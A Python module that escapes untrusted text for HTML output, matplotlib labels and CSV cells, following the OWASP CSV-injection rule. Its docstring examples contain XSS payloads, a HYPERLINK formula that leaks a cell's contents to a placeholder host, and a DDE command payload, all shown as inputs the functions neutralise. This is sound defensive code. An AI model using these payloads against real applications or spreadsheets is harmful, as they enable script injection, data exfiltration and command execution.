"""Text from outside stays text: the one place that makes it safe to show or to write out.

Bounce and complaint text, contact fields, addresses, subjects, campaign and list names,
server replies and folder names come from people and servers we do not control. Wherever the
toolkit shows them, they must read as the characters they are, never as markup or a formula:

- :func:`html_text` for anything put into HTML (widgets, styled tables, exported HTML);
- :func:`plot_text` for matplotlib labels (``$...$`` would be read as mathtext);
- :func:`csv_cell` for a CSV cell (``=HYPERLINK(...)`` would be a formula in a spreadsheet).

Markup the package writes itself (tags, styles) is built around these, never from outside text.
Importing this module imports nothing heavy.

Example::

    >>> html_text('<img src=x onerror="alert(1)">')
    '&lt;img src=x onerror=&quot;alert(1)&quot;&gt;'
    >>> csv_cell('=HYPERLINK("http://x/?"&A2)'), csv_cell(-3)
    ('\\'=HYPERLINK("http://x/?"&A2)', -3)
"""

from __future__ import annotations

import html
from typing import Any

__all__ = ["FORMULA_STARTS", "csv_cell", "html_text", "plot_text"]

#: A cell whose first character (after any leading whitespace) is one of these is read as a
#: formula by Excel, LibreOffice or Google Sheets (OWASP "CSV injection"), including the
#: full-width forms some spreadsheets fold to ASCII.
FORMULA_STARTS = frozenset("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")


def html_text(value: Any) -> str:
    """``value`` as HTML text: ``& < > " '`` escaped, so it is safe in an element or an attribute.

    ``None`` reads as an empty string.

    Example::

        >>> html_text("<script>alert('x')</script> & co")
        '&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt; &amp; co'
        >>> html_text(None), html_text(3)
        ('', '3')
    """
    return "" if value is None else html.escape(str(value), quote=True)


def plot_text(value: Any) -> str:
    """``value`` as a matplotlib label that shows literally: each ``$`` escaped (no mathtext).

    Example::

        >>> plot_text("cost $5 and $6.example")
        'cost \\\\$5 and \\\\$6.example'
    """
    return ("" if value is None else str(value)).replace("$", r"\$")


def csv_cell(value: Any) -> Any:
    """A CSV cell a spreadsheet will not run: text that would start a formula gets a leading ``'``.

    Text starting with ``= + - @``, a tab, CR or LF (also after leading spaces, and the
    full-width ``＝ ＋ － ＠``) is prefixed with a single quote, the OWASP rule. Anything that is
    not text (numbers, a negative count, None) is returned as it is.

    Example::

        >>> [csv_cell(v) for v in ["+cmd|' /C calc'!A0", "  @SUM(A1)", "ann@example.org", -3]]
        ["'+cmd|' /C calc'!A0", "'  @SUM(A1)", 'ann@example.org', -3]
    """
    if not isinstance(value, str) or not value:
        return value
    if value[0] in FORMULA_STARTS or value.lstrip(" \u00a0\u3000")[:1] in FORMULA_STARTS:
        return "'" + value
    return value
